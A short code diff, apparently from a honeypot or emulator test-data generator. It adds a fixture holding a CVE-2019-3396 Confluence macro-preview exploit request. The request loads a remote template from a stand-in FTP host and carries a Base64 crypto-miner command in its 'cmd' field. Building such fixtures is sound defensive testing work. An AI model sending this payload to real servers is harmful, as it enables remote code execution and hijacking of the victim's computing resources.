@@ -146,3 +146,17 @@ payload_lines = [
 with open(os.path.join(out, "attacks-payload.jsonl"), "w") as f:
     for l in payload_lines:
         f.write(json.dumps(l) + "\n")
+
+# The same Base64 miner command in the `cmd` parameter of a CVE-2019-3396
+# preview request: the Confluence emulation hands the decoded text to the
+# file engine too.
+conf_payload = {"label": "cve_2019_3396_base64_cmd", "method": "POST",
+                "path": "/rest/tinymce/1/macro/preview",
+                "headers": [["Content-Type", "application/json; charset=utf-8"]],
+                "body": json.dumps({"contentId": "1", "macro": {
+                    "name": "widget", "body": "", "params": {
+                        "url": "https://www.viddler.com/v/23464dc6", "width": "1000",
+                        "height": "1000", "_template": "ftp://198.51.100.7/x.vm",
+                        "cmd": miner_cmd}}})}
+with open(os.path.join(out, "confluence-payload.jsonl"), "w") as f:
+    f.write(json.dumps(conf_payload) + "\n")
